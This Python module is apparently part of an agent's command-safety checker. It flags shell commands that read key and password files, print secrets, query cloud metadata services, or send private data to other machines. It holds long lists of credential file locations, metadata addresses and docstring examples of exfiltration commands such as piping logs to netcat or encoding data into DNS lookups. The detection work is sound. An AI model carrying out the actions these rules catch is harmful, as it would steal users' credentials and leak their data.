"""Keys and passwords: showing them, searching for them, and sending private data away."""

import re
from collections.abc import Iterator
from fnmatch import fnmatchcase
from itertools import pairwise

from hermes.security.danger.context import (
    COPIERS,
    ShellContext,
    copied,
    has_option,
    in_place,
    is_pattern,
    is_recursive,
    operands,
    options,
    touched_paths,
)
from hermes.security.shell.model import UNKNOWN, Invocation, join_path, program_name
from hermes.security.shell.wrappers import HOLDS_TEXT, chain, option_values
from hermes.security.tables import word_list

LOOKS_ONLY, PRINTERS = word_list("looks_only"), word_list("printers")
GIT_READS = frozenset({"add", "hash-object", "diff", "archive", "show", "apply"})
SEARCHERS = frozenset({"grep", "rg", "egrep", "awk", "sed", "cut", "ag"})
SENDERS, SHOWERS = word_list("senders"), word_list("showers")
DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "history", "compgen"})
_DUMPED = DUMPERS - {"compgen"}

PUBLIC = re.compile(r"\.pub\Z|/(known_hosts(\.old)?|authorized_keys)\Z|/\.(ssh|aws)/config\Z")
"""Files among the credentials that hold no secret."""
SECRET_FILES = re.compile(
    r"(^|/)(id_(rsa|dsa|ecdsa|ed25519)(_\w+)?|[\w.-]*\.(key|p12|pfx|kdbx|ppk|jks|keystore)"
    r"|[\w.-]*(key|priv)[\w.-]*\.pem|service[-_]?account[\w.-]*\.json|credentials(\.json|\.ya?ml)?"
    r"|\.htpasswd|\.vault[-_]pass\w*|wallet\.dat|logins\.json|key4\.db|Login Data|cookies\.sqlite"
    r"|secrets?\.(ya?ml|json|toml|env|txt)|passwords?\.(txt|csv|json)|\.git-credentials|\.netrc"
    r"|\.pgpass|token\.json|\.npmrc|\.pypirc|[\w.-]*\.tfstate|\.s3cfg|\.boto|\.envrc)\Z"
)
"""Names of files that hold secrets, wherever they are."""
ENV_FILE = re.compile(
    r"(^|/)\.env(\.(?!example|sample|template|dist|test|defaults?|ci|schema)[\w-]+)*\Z"
)
SECRET_PLACES = re.compile(
    r"/proc/[^/]+/(environ|mem)\Z|/run/secrets/|/var/lib/(kubelet/pki|docker/swarm)"
    r"|/\.config/(google-chrome|chromium|BraveSoftware|Signal)/|/Application Support/(Google|Fire)"
    r"|/(Mail|Maildir|\.mail|\.local/share/mail)/|/\.(mozilla|bitcoin|ethereum|electrum|thunderbird)/|/\.(bash|zsh|mysql|psql|python)_history\Z"
    r"|/\.(kaggle|databrickscfg|snowsql|oci|fly|ngrok2|msmtprc|heroku|tsh|putty|purple|codex)(/|\Z)"
    r"|/\.(m2/settings\.xml|gradle/gradle\.properties|composer/auth\.json|claude/\.credentials\.json)"
    r"|/\.(cache/)?huggingface/token|/\.config/(doctl|hub|stripe|sops|ngrok|filezilla|github-copilot)(?:/|\Z)"
    r"|/etc/(kubernetes/\w+\.conf|ppp/chap-secrets|wireguard|openvpn|master\.passwd|rancher"
    r"|NetworkManager/system-connections|security/opasswd)|/System32/config/SAM"
    r"|(?:~|/root|/home/[^/]+|/Users/[^/]+)/\.(?:[^/]+/)*(?:[\w-]*keys?|tokens?|secrets?|credentials?|creds|auth|oauth\w*"
    r"|keystores?|keypair|id|access_?tokens?|session|sec|identity|wallets?|authinfo)"
    r"(?:\.(?:json|txt|ya?ml|toml|db|conf|ini|dat|gpg|enc|age|key))?(?:\Z|/UTC)"
    r"|/\.(?:local/share/(?:kwalletd|signal-cli|TelegramDesktop|atuin/key|password-store)|near-credentials|foundry/keystores"
    r"|sui/sui_config|aptos|brownie/accounts|bitmonero|mbsyncrc|offlineimaprc|fetchmailrc|twurlrc|authinfo)(?:/|\Z)"
    r"|/\.config/(?:Slack|discord|Element|Bitwarden[^/]*|1Password|solana|age|hcloud|toot)/"
)
SECRET_NAME = re.compile(
    r"(?:^|_)(SECRET|PASSWORD|PASSWD|TOKEN|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)(?:_|\Z)",
    re.IGNORECASE,
)
SECRET_HINT = re.compile(
    r"secret|passw|\bpass\b|token|api[-_.]?key|_key|credential|\bkey\b|aws_|private", re.IGNORECASE
)
_HUNTED = re.compile(
    r"id_(rsa|ed25519|\*)|\.pem\b|\.kdbx|wallet\.dat|\.key\b|credential|passw|\.env\b|\.ppk|_history"
    r"|\.aws|shadow|secret|PRIVATE KEY|api_?key",
    re.IGNORECASE,
)
METADATA = re.compile(
    r"(?<![\d.])(169\.254\.(169\.(254|253|123)|170\.2|169\.250)|100\.100\.100\.200|192\.0\.0\.192)(?![\d.]*\d)"
    r"|fd00:ec2::|metadata\.(google\.internal|goog|azure|tencentyun)|//metadata/|instance-data/"
    r"|//(2852039166|0x[aA]9[fF][eE][aA]9[fF][eE]|0xa9\.0xfe|0251\.0376)|/latest/(meta-data|user-data)"
    r"|computeMetadata/v1|metadata/(identity|instance|v1\b)|opc/v[12]/instance"
)
"""URLs at which clouds serve the keys of a machine."""
_OUTSIDE = re.compile(r"/|~/?|/(home|root|etc|Users|var|opt|srv)(/.*)?")
_PRIVATE = re.compile(
    r"/etc(/(passwd|shadow|group|hosts|ssh|sudoers)|/?\Z)|(~|/root|/home/[^/]+|/Users/[^/]+|/)/?\Z"
)
_SENT_FILE = re.compile(
    r"@(/(etc|proc|root|var/(lib|log|spool))/|~)|\A(file://)?/etc/|=/(etc|root)/"
)


def uses_credentials(invocation: Invocation, context: ShellContext) -> bool:
    if not _reads(invocation):
        return False
    paths = list(touched_paths(invocation))
    if invocation.arguments and context.is_credential(context.real(".", invocation)):
        paths += operands(invocation)
    return any(_is_secret(path, invocation, context) for path in paths)


def _reads(invocation: Invocation) -> bool:
    """Return whether the program reads the files it names."""
    name, words = invocation.name, invocation.arguments
    if name in ("gh", "hub", "glab") and {"gist", "snippet", "upload", "secret"} & set(words):
        return True
    if name in LOOKS_ONLY:
        return bool(invocation.redirects) or (name == "find" and "-exec" in words)
    if name == "git":
        return not GIT_READS.isdisjoint(words)
    return not (name == "docker" and "build" in words)


def _is_secret(path: str, invocation: Invocation, context: ShellContext) -> bool:
    if context.could_be_credential(path, invocation) or context.could_be_own(path, invocation):
        return True
    if SECRET_PLACES.search(path.replace(UNKNOWN, "x")):
        return True
    real = context.real(path, invocation)
    if not real or PUBLIC.search(real):
        return False
    return context.is_credential(real) or context.is_own(real) or bool(SECRET_PLACES.search(real))


# Programs that read a whole folder: what they find there goes to their output or their copy.

_GREPS = frozenset({"grep", "egrep", "fgrep", "zgrep", "rgrep", "ggrep", "ugrep"})
_IGNORING = frozenset({"rg", "ag", "ack"})  #: They leave hidden files out unless told otherwise.
_COPYING = COPIERS | {"tar", "bsdtar", "zip", "7z", "7za", "rar", "git", "cpio", "pax"}
_BACKUPS = word_list("backups")
_SERVERS = frozenset({"http.server", "http-server", "serve", "simplehttpserver", "httpd"})
_OPENS_FILES = word_list("opens_files")
_NAMES = re.compile(r"-(i?name|i?path|i?regex|i?wholename)\Z")


def reads_tree(invocation: Invocation, context: ShellContext) -> bool:
    """`grep -r x ~`, `tar c .` in the home: a folder with keys somewhere in it."""
    for path in _read_folders(invocation):
        real = context.real(path, invocation) if UNKNOWN not in path else ""
        if real and context.holds_credentials(real):
            return True
    return False


def _read_folders(invocation: Invocation) -> Iterator[str]:
    """Yield the folders that the program reads with everything in them."""
    name, words, named = invocation.name, invocation.arguments, operands(invocation)
    if name in _GREPS:
        if (name == "rgrep" or has_option(invocation, "r", "R", "--recursive")) and not (
            re.search(r"--include|-d\s*skip", invocation.text)
        ):
            yield from named[1:] or ["."]
    elif name in _IGNORING:
        hidden = has_option(invocation, "u", ".", "--hidden", "--unrestricted", "--no-ignore")
        narrow = has_option(invocation, "g", "t", "G", "--glob", "--type")
        places = named[1:] or ["."]
        yield from places if hidden and not narrow else (p for p in places if p in ("/", "/etc"))
    elif name in _COPYING:
        yield from _packed_folders(invocation, named)
    elif name in ("find", "fd", "fdfind", "bfs"):
        runs = {after for word, after in pairwise(words) if re.match(r"-(exec|ok)|-[xX]\Z", word)}
        if any(program_name(each) in _OPENS_FILES for each in runs):
            yield from _searched_folders(invocation)
    elif name in _BACKUPS:
        yield from named
    elif name in _SERVERS or (name == "php" and "-S" in words):
        yield from _served_folders(invocation, named)
    if name in _OPENS_FILES and (listed := _listed_by(invocation)) is not None:
        yield from _searched_folders(listed)


def _served_folders(invocation: Invocation, named: list[str]) -> Iterator[str]:
    words = invocation.arguments
    bound = set(option_values(words, ("-b", "--bind", "-p", "--protocol", "-a", "-l", "-S")))
    named = [word for word in named if word not in bound]
    folders = [*option_values(words, ("-d", "--directory", "-t", "--docroot", "-h"))]
    yield from folders or named[-1:]
    yield "." if not named or named[-1].isdigit() else named[-1]


def _packed_folders(invocation: Invocation, named: list[str]) -> Iterator[str]:
    name, words = invocation.name, invocation.arguments
    if name in ("tar", "bsdtar"):
        mode = "".join(words[:1]).lstrip("-")
        if "c" in mode or "r" in mode or {"-c", "-r", "--create", "--append"} & set(words):
            folders = list(option_values(words, ("-C", "--directory")))
            yield from (join_path(folders[-1] if folders else "", path) for path in named)
    elif name == "git":
        if "add" in words and ({".", "-A", "--all", "*", "-f"} & set(words)):
            yield from [*option_values(words, ("-C",))] or ["."]
    elif name == "zip":
        yield from named[1:] if is_recursive(invocation) else ()
    elif name in ("7z", "7za", "rar"):
        yield from named[2:] if named[:1] == ["a"] else ()
    elif name in COPIERS:
        archive = has_option(invocation, "a", "--archive") or name == "ditto"
        if archive or is_recursive(invocation):
            yield from (path for path in copied(invocation)[0] if ":" not in path)


def _listed_by(invocation: Invocation) -> Invocation | None:
    """Return the search whose results the program opens."""
    if "xargs" in invocation.via or invocation.name in ("cpio", "tar", "zip", "while"):
        return next((each for each in invocation.upstream if each.name in ("find", "fd")), None)
    return None


def _searched_folders(search: Invocation) -> Iterator[str]:
    """Yield where `find` starts, unless it looks for names that are not those of keys."""
    names = [after for word, after in pairwise(search.arguments) if _NAMES.match(word)]
    if search.name != "find":
        names = operands(search)[:1]
    if names and not any(_HUNTED.search(each) or not each.strip("*.") for each in names):
        return
    if search.name == "find":
        first = next((i for i, word in enumerate(search.arguments) if word[:1] in "-(!"), None)
        yield from search.arguments[:first] or (".",)
    else:
        yield from operands(search)[1:] or ["."]


def prints_secret_file(invocation: Invocation, context: ShellContext) -> bool:
    """Files of a project that hold secrets, by their name."""
    name, words = invocation.name, invocation.arguments
    if id(invocation) in context.loaded:
        return False
    if name in SEARCHERS:
        return _prints_setting(invocation)
    if name not in PRINTERS:
        return False
    if name == "openssl" and not re.match(r"(rsa|ec|pkey|pkcs12)\b", invocation.text):
        return False
    paths = [path for path in touched_paths(invocation) if not path.startswith("-")]
    if name in ("curl", "wget"):
        sent = [word for word in words if "@" in word or "-T" in words]
        paths = [path for word in sent for path in re.split(r"[@=;]", word)]
    return any(map(_names_secret, paths))


def _names_secret(path: str) -> bool:
    """Check by name; a pattern counts if it can mean such a file: `.en?`."""
    if is_pattern(path):
        last = path.rpartition("/")[2]
        if last[:2] == ".e" and fnmatchcase(".env", last):
            return True
        path = re.sub(r"\[(.)[^\]]*\]", r"\1", path).replace("*", "").replace("?", "x")
    return bool(SECRET_FILES.search(path) or ENV_FILE.search(path))


def _prints_setting(invocation: Invocation) -> bool:
    """`grep SECRET .env`, unless only the exit code or a count matters."""
    words = invocation.arguments
    quiet = any(word[:2] in ("-q", "-c", "-l", "-L") for word in words) or in_place(invocation)
    pattern = next((word for word in words if not word.startswith("-")), "")
    found = any(ENV_FILE.search(path) for path in touched_paths(invocation))
    return found and not quiet and bool(SECRET_HINT.search(pattern) or _shows_all(invocation))


def _shows_all(invocation: Invocation) -> bool:
    """`grep . .env`, `sed -n p .env`, `cut -d= -f2 .env`: every value, whatever its name."""
    if invocation.name == "cut":
        return bool(re.search(r"-f\s*\d*-?[2-9]|-f\s*\d-", invocation.text))
    if invocation.name in ("awk", "sed"):
        return not re.search(r"[A-Za-z_]{3}", invocation.text.replace(".env", "")) or bool(
            re.search(r"\$(2|0|NF)\b", invocation.text)
        )
    pattern = next((word for word in invocation.arguments if not word.startswith("-")), "")
    return "v" not in options(invocation) and not re.search(r"\w{2}|\^#", pattern)


def prints_secret_variable(invocation: Invocation, context: ShellContext) -> bool:
    name = invocation.name
    if name == "printenv":
        return any(SECRET_NAME.search(word) for word in invocation.arguments)
    if name in SHOWERS:
        shown = (used for source in invocation.upstream[-1:] for used in source.uses)
        return any(map(SECRET_NAME.search, shown))
    if name not in ("echo", "printf") or invocation.piped:
        return False
    if any(redirect.writes for redirect in invocation.redirects):
        return False
    foreign = (
        used
        for used in invocation.uses
        if used not in invocation.known or used in context.inherited
    )
    return any(map(SECRET_NAME.search, foreign))


def filters_secrets(invocation: Invocation, _context: ShellContext) -> bool:
    """`env | grep -i key`."""
    dumped = {each.name for source in invocation.upstream[-2:] for each in chain(source)} & _DUMPED
    pattern = next((word for word in invocation.arguments if not word.startswith("-")), "")
    return bool(dumped) and bool(SECRET_HINT.search(pattern))


def hunts_secrets(invocation: Invocation, _context: ShellContext) -> bool:
    """Searching the machine for keys, outside the current folder."""
    outside = any(_OUTSIDE.fullmatch(word) for word in invocation.arguments)
    everywhere = invocation.name in ("locate", "mdfind", "plocate")
    return (outside or everywhere) and bool(_HUNTED.search(invocation.text))


def asks_metadata(invocation: Invocation, _context: ShellContext) -> bool:
    """The metadata service of a cloud, which hands keys to the machine itself."""
    if invocation.name in HOLDS_TEXT - _TALKERS:
        return False
    return any(METADATA.search(word) for word in invocation.arguments)


def sends_private(invocation: Invocation, _context: ShellContext) -> bool:
    """The environment, the history or system files, sent to another machine."""
    if invocation.name not in SENDERS:
        return False
    sources = invocation.sources
    if any(source.name in DUMPERS for source in sources):
        return True
    packed = [word for source in sources for word in source.arguments]
    packed += [each.target for each in invocation.redirects if each.operator == "<"]
    if any(_PRIVATE.match(word) for word in packed):
        return True
    return any(_SENT_FILE.search(word) for word in invocation.arguments)


# Files from outside the workspace, and copies of data.

_REMOTE_PLACE = re.compile(r"[\w.-]+@[\w.-]+:|(?!\w:[\\/])[\w.-]{2,}:(?!\d+\Z)|\w+://|[\w.-]+::")
_LOCAL_HOST = re.compile(r"(\w+://)?([\w.-]+@)?(localhost|127\.\d|\[::1\]|0\.0\.0\.0)\b")
_SENT_WORD = re.compile(r"(?:[\w.\[\]-]*=)?[@<](?=[/~.])|(?:--(?:post|body|upload)-file=)(?=[/~.])")
_UPLOAD_OPTIONS = ("-T", "--upload-file", "--post-file", "--body-file", "--input-file")
_ATTACH_OPTIONS = ("-a", "-A", "--attach", "--attachment", "--attach-type")
_MAILERS = word_list("mailers")
_STORES = word_list("stores")
_SENDS_ALL = word_list("sends_all")
_PACKERS = word_list("data_packers")
_DUMPS = word_list("data_dumpers")
_DUMP_TEXT = re.compile(r"(^|\s)(\.dump|--rdb|save|export|get\s+secrets?)\b")
_DUMP_CLIENTS = frozenset({"sqlite3", "redis-cli", "docker", "podman", "kubectl", "influxd"})


def sends_outside(invocation: Invocation, context: ShellContext) -> bool:
    """`scp ~/x host:`, `curl -T ~/x …`: files of the user that do not belong to the work."""
    if invocation.name not in _SENDING or _LOCAL_HOST.match(_destination(invocation)):
        return False
    if context.dumps:
        words = (re.split("[@=]", word)[-1] for word in invocation.arguments)
        if any(context.real(word, invocation) in context.dumps for word in words if word):
            return True
    for path in _sent_paths(invocation):
        if path.startswith((UNKNOWN, "/dev/")):
            continue
        if context.is_outside(context.real(path, invocation)):
            return True
    return False


def _destination(invocation: Invocation) -> str:
    words = [word for word in operands(invocation) if _REMOTE_PLACE.match(word)]
    return words[-1] if words else "".join(operands(invocation)[:1])


def _sent_paths(invocation: Invocation) -> Iterator[str]:
    """Yield the files that a program sends."""
    name, words, named = invocation.name, invocation.arguments, operands(invocation)
    if name in ("scp", "rsync") or name in _STORES:
        if named and _REMOTE_PLACE.match(named[-1]):
            keys = set(option_values(words, ("-i", "-F", "-S", "-e", "--rsh", "--exclude-from")))
            sent = (word for word in named[:-1] if word not in keys)
            yield from (word for word in sent if word[:1] in "/~." and ":" not in word)
        return
    if name == "az":
        yield from option_values(words, ("-s", "-f", "--source", "--file"))
    elif name in _SENDS_ALL:
        yield from (word for word in named if word[:1] in "/~.")
    elif name in _MAILERS:
        yield from (word.lstrip("@") for word in option_values(words, _ATTACH_OPTIONS))
    elif name == "sftp":
        yield from re.findall(r"\bput\s+(?:-\w+\s+)*([/~]\S+)", invocation.stdin)
    else:
        yield from option_values(words, _UPLOAD_OPTIONS)
        yield from (_SENT_WORD.sub("", word, count=1) for word in words if _SENT_WORD.match(word))
    yield from (
        each.target
        for each in invocation.redirects
        if each.operator == "<" and each.target[:1] in ("/", "~", ".")
    )
    for source in (each for given in invocation.sources for each in chain(given)):
        if source.name in _PACKERS:
            given = (each.target for each in source.redirects if each.operator == "<")
            yield from (word for word in (*operands(source), *given) if word[:1] in ("/", "~"))


_SHOWN_OPTIONS = ("-a", "-f", "-i", "--attachment", "--attach", "--file", "--image", "--fragment")


def gives_assistant(invocation: Invocation, context: ShellContext) -> bool:
    """`llm -a ~/Documents/x.pdf "…"`, `cat ~/x | llm`: a model of others reads a private file."""
    paths = [*option_values(invocation.arguments, _SHOWN_OPTIONS)]
    paths += (each.target for each in invocation.redirects if each.operator == "<")
    for source in invocation.upstream:
        paths += operands(source) if source.name in _PACKERS | PRINTERS else ()
    outside = (path for path in paths if path[:1] in ("/", "~", "."))
    return any(context.is_outside(context.real(path, invocation)) for path in outside)


def sends_output(invocation: Invocation, _context: ShellContext) -> bool:
    """`journalctl | nc host 9999`: more than a request that is written in the command."""
    if _LOCAL_HOST.match(_destination(invocation)) or not operands(invocation)[1:]:
        return False
    sources = invocation.upstream[:1]
    return bool(sources) and sources[0].name not in ("echo", "printf", "yes", "")


def sends_dump(invocation: Invocation, _context: ShellContext) -> bool:
    """`pg_dump … | curl -T -`, `tar c x | nc host 9`: a copy of data as input of a sender."""
    name = invocation.name
    if name not in _SENDING or _LOCAL_HOST.match(_destination(invocation)):
        return False
    sources = (*invocation.sources, *(s for r in invocation.redirects for s in r.drawn))
    if any(_is_dump(each) for source in sources for each in chain(source)):
        return True
    if name == "curl":
        return any(
            (source.name == "git" and {"archive", "bundle"} & set(source.arguments))
            or (source.name in ("tar", "zip") and "-" in source.arguments)
            for source in invocation.upstream
        )
    if name not in ("nc", "ncat", "netcat", "socat") or "-z" in invocation.arguments:
        return False
    read = any(each.operator == "<" and "." in each.target for each in invocation.redirects)
    packed = any(source.name in ("tar", "cat", "gzip", "zip") for source in invocation.upstream)
    return (read or packed) and bool(operands(invocation)[1:])


def _is_dump(source: Invocation) -> bool:
    if source.name in _DUMP_CLIENTS:
        return bool(_DUMP_TEXT.search(source.text))
    return source.name in _DUMPS


_SPELLERS = word_list("data_spellers")
_LEAKING = re.compile(
    r"(?:-[AHUe]|--(?:user-agent|header|referer)=)?(?!.*(?i:authorization))[\w-]*[:@\ue000]"
)


def spells_data(invocation: Invocation, _context: ShellContext) -> bool:
    """`dig $(xxd -p x).example.net`: the name that is looked up contains data."""
    if invocation.name in ("curl", "wget"):
        urls = [word for word in operands(invocation) if "://" in word]
        sent = [word for word in invocation.arguments if UNKNOWN in word]
        sent = [word for word in sent if "://" in word or _LEAKING.match(word)]
        inside = {"whoami", "hostname", "xxd", "base64"} & invocation.feeders
        return bool(inside and sent) and any(not _LOCAL_HOST.match(url) for url in urls)
    names = [word for word in operands(invocation) if UNKNOWN in word and "." in word]
    return bool(names) and any(source.name in _SPELLERS for source in invocation.sources)


_OTHER_SESSION = re.compile(r"(?:unix:path=)?/run/user/(?!1000/)\d+/")
"""The folder of a user other than the first one of the machine."""


def borrows_agent(invocation: Invocation, context: ShellContext) -> bool:
    """`SSH_AUTH_SOCK=/tmp/ssh-…`: the keys that another session has unlocked."""
    pairs = list(invocation.assignments)
    if invocation.name in ("export", "env"):
        words = (word.partition("=") for word in invocation.arguments)
        pairs += [(name, value) for name, found, value in words if found]
    for name, value in pairs:
        if name in ("SSH_AUTH_SOCK", "SSH_AGENT_PID", "KRB5CCNAME"):
            searched = {each.name for each in invocation.sources} & {"ls", "find", "head"}
            if re.match(r"(FILE:)?/tmp/(ssh-|krb5cc)", value) or searched:
                return True
            if _OTHER_SESSION.match(value):
                return True
        if name == "KUBECONFIG" and SECRET_PLACES.search(value):
            return True
        if name in ("DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY", "GNUPGHOME"):
            other = re.search(r"(?:/home/[^/]+|/root|/Users/[^/]+)(?=/)", value)
            if _OTHER_SESSION.search(value) or (other and other[0] != context.home):
                return True
    return False


_TALKERS = frozenset({"curl", "wget", "http", "https", "xh"})
_SENDING = SENDERS | _STORES | _MAILERS | _SENDS_ALL | {"sftp", "az", "lftp"}
